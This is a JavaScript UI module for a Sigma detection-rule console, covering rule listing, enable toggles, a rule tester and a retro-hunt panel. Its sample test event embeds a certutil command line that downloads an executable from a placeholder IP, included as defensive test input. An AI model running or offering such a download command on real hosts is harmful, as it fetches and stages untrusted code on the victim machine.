// Rules: list with hit counts and whether their logsource was seen, enable/disable, the YAML,
// testing a rule against a pasted event, and a retro-hunt over stored events.
import { html, useState } from '../lib.js';
import { get, post, patch } from '../api.js';
import { useAsync, ErrorBox, fmtTime, Level } from '../ui.js';

// A Sysmon process-creation record as evtx_dump writes it: native fields are what Sigma matches.
const SAMPLE_EVENT = {
  Event: {
    System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS-01' },
    EventData: { Image: 'C:\\Windows\\System32\\certutil.exe', OriginalFileName: 'CertUtil.exe', CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe a.exe', User: 'CORP\\alice' },
  },
};

const ls = (l) => [l?.product, l?.service, l?.category].filter(Boolean).join(' / ');

function RuleTester({ id }) {
  const [event, setEvent] = useState(JSON.stringify(SAMPLE_EVENT, null, 2));
  const [result, setResult] = useState(null);
  const [error, setError] = useState(null);
  const test = async () => {
    let parsed;
    try { parsed = JSON.parse(event); } catch (err) { setError({ message: `the event is not JSON: ${err.message}` }); return; }
    try { setResult(await post('/api/v1/rules/test', { id, event: parsed })); setError(null); } catch (err) { setError(err); }
  };
  return html`<div><h4>Test against an event</h4>
    <div class="muted">A JSON event: a native record (as above: Windows Event JSON, CloudTrail, Zeek, …) or normalized ECS fields.</div>
    <textarea data-test="test-event" rows="10" value=${event} onInput=${(e) => setEvent(e.target.value)}></textarea>
    <button onClick=${test} data-test="test-rule">Test</button>
    <${ErrorBox} error=${error} />
    ${result ? html`<div data-test="test-result" class=${result.matched ? 'ok' : 'muted'}>${result.matched ? 'matched' : 'no match'}
      ${(result.errors || []).map((e) => html`<div class="error">${typeof e === 'string' ? e : JSON.stringify(e)}</div>`)}
      ${result.logsource ? html` <span class="muted">(logsource class ${result.logsource})</span>` : ''}
      <ul>${(result.explanation || []).map((x) => html`<li>${typeof x === 'string' ? x : JSON.stringify(x)}</li>`)}</ul></div>` : ''}
  </div>`;
}

function RetroHunt({ id }) {
  const [from, setFrom] = useState('-24h');
  const [to, setTo] = useState('now');
  const [result, setResult] = useState(null);
  const [error, setError] = useState(null);
  const [busy, setBusy] = useState(false);
  const hunt = async () => {
    setBusy(true);
    try { setResult(await post('/api/v1/hunts', { rule_id: id, from, to, limit: 200 })); setError(null); } catch (err) { setError(err); } finally { setBusy(false); }
  };
  return html`<div><h4>Retro-hunt</h4>
    <label>from <input value=${from} onInput=${(e) => setFrom(e.target.value)} /></label>
    <label>to <input value=${to} onInput=${(e) => setTo(e.target.value)} /></label>
    <button onClick=${hunt} disabled=${busy} data-test="hunt">${busy ? 'Hunting…' : 'Hunt'}</button>
    <${ErrorBox} error=${error} />
    ${result ? html`<div data-test="hunt-result">${result.matches} matches in ${result.took_ms} ms (first ${result.events?.length ?? 0} shown)
      ${(result.refused || []).concat(result.failed || []).map((r) => html`<div class="error">${r.rule}: ${r.reason || r.error}</div>`)}
      <table class="grid"><tbody>${(result.events || []).map((m) => { const e = m.event || m; return html`<tr><td>${fmtTime(m.ts ?? e['@timestamp'])}</td><td>${e['host.name'] || ''}</td><td>${e['user.name'] || ''}</td><td>${String(e['process.command_line'] || e.message || '').slice(0, 200)}</td></tr>`; })}</tbody></table></div>` : ''}
  </div>`;
}

function RuleDetail({ id, onClose }) {
  const { data, error } = useAsync(() => get(`/api/v1/rules/${encodeURIComponent(id)}`), [id]);
  return html`<div class="detail" data-test="rule-detail">
    <div class="detail-head"><b>${data?.rule?.title || id}</b><button class="link" onClick=${onClose}>close ✕</button></div>
    <${ErrorBox} error=${error} />
    ${data ? html`<pre class="yaml" data-test="rule-yaml">${data.yaml ?? "(the rule's source is not available)"}</pre>` : ''}
    <${RuleTester} id=${id} />
    <${RetroHunt} id=${id} />
  </div>`;
}

export function RulesPage({ me }) {
  const { data, error, reload } = useAsync(() => get('/api/v1/rules'), []);
  const [filter, setFilter] = useState('');
  const [open, setOpen] = useState(null);
  const [toggleError, setToggleError] = useState(null);
  const canEdit = me.user.role !== 'read_only';
  const f = filter.toLowerCase();
  const rules = (data?.rules || []).filter((r) => !f || `${r.title} ${r.id} ${(r.tags || []).join(' ')} ${ls(r.logsource)}`.toLowerCase().includes(f));
  const shown = rules.slice(0, 500);
  const toggle = async (r) => {
    try { await patch(`/api/v1/rules/${encodeURIComponent(r.id)}`, { enabled: !r.enabled }); setToggleError(null); reload(); } catch (err) { setToggleError(err); }
  };
  return html`<div class="rules">
    <h2>Rules <small class="muted">${data ? `${data.rules.length} loaded` : ''}</small></h2>
    <input class="filter" placeholder="filter by title, id, tag, logsource" value=${filter} onInput=${(e) => setFilter(e.target.value)} />
    <${ErrorBox} error=${error || toggleError} />
    <div class="split">
      <table class="grid" data-test="rules"><thead><tr><th>enabled</th><th>level</th><th>title</th><th>logsource</th><th>hits</th><th>evaluated</th><th>last hit</th><th>logsource seen</th></tr></thead>
        <tbody>${shown.map((r) => html`<tr data-rule=${r.id} class=${open === r.id ? 'selected' : ''}>
          <td><input type="checkbox" data-test="rule-enabled" checked=${r.enabled} disabled=${!canEdit} onChange=${() => toggle(r)} /></td>
          <td><${Level} level=${r.level} /></td>
          <td><a href="#" onClick=${(e) => { e.preventDefault(); setOpen(r.id); }}>${r.title}</a>${r.status ? html` <small class="muted">${r.status}</small>` : ''}</td>
          <td>${r.kind === 'correlation' ? 'correlation' : ls(r.logsource)}</td><td>${r.hits ?? 0}</td><td>${r.evaluated ?? '—'}</td><td>${fmtTime(r.last_hit_at)}</td>
          <td class=${r.logsource_seen === false ? 'warn' : ''}>${r.logsource_seen ? fmtTime(r.logsource_last_seen_at) || 'yes' : r.logsource_seen === false ? 'never' : '—'}</td>
        </tr>`)}</tbody></table>
      ${open ? html`<${RuleDetail} id=${open} onClose=${() => setOpen(null)} />` : ''}
    </div>
    ${rules.length > shown.length ? html`<div class="muted">${rules.length - shown.length} more: narrow the filter.</div>` : ''}
  </div>`;
}
